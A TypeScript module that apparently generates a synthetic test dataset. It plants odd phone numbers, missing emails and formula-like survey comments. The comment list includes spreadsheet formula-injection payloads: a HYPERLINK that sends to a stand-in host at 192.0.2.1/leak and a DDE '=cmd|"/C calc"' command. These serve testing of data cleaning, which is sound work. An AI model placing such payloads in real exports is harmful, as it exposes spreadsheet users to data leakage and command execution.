import type { Customer } from '../company/customers.ts';
import { Random } from '../random.ts';
import { PREVIOUS_LAST_DAY } from '../records/horizon.ts';
import type { Row, Table } from '../table.ts';
import { PLANTED_ODDITIES } from './planted.ts';

/** Comments that begin like a formula; the first reaches out to a server when a spreadsheet runs it. */
export const FORMULA_COMMENTS = [
  '=HYPERLINK("http://192.0.2.1/leak","查看报价")',
  '+86号段的电话总是占线',
  '-2+3',
  '@SUM(A1:A9)',
  '=1+1',
  '＝全角等号开头的意见',
  '=cmd|"/C calc"!A0',
  '-交期能再快一点就好',
] as const;

/** Gives some customers a masked or mangled phone, and takes the mail address of others. */
export function withOddContacts(seed: number, customers: readonly Customer[]): Customer[] {
  const order = new Random(seed, 'odd contacts').shuffled(customers.map(({ id }) => id));
  const { maskedPhones, phonesWithoutAsterisks, missingEmails } = PLANTED_ODDITIES;
  const masked = new Set(order.splice(0, maskedPhones));
  const mangled = new Set(order.splice(0, phonesWithoutAsterisks));
  const silent = new Set(order.splice(0, missingEmails));
  return customers.map((customer) => {
    const { id, phone, email } = customer;
    const ends = [phone.slice(0, 3), phone.slice(-4)] as const;
    return {
      ...customer,
      phone: masked.has(id) ? ends.join('****') : mangled.has(id) ? ends.join('') : phone,
      email: silent.has(id) ? '' : email,
    };
  });
}

/** Replaces empty comments of valid answers by ones that look like formulas. */
export function withFormulaComments(seed: number, surveys: Table): Table {
  const column = surveys.header.indexOf('comment');
  const candidates = new Random(seed, 'formula comments').shuffled(
    surveys.rows.filter(({ cells, flaw }) => flaw === undefined && !('raw' in cells) && cells[column] === ''),
  );
  const { early, late } = PLANTED_ODDITIES.formulaComments;
  const chosen: Row[] = [
    ...candidates.filter(({ known }) => known <= PREVIOUS_LAST_DAY).slice(0, early),
    ...candidates.filter(({ known }) => known > PREVIOUS_LAST_DAY).slice(0, late),
  ];
  return {
    header: surveys.header,
    rows: surveys.rows.map((row) => {
      const place = chosen.indexOf(row);
      if (place < 0 || 'raw' in row.cells) return row;
      const comment = FORMULA_COMMENTS[place % FORMULA_COMMENTS.length] ?? '';
      return { ...row, cells: row.cells.map((cell, at) => (at === column ? comment : cell)) };
    }),
  };
}
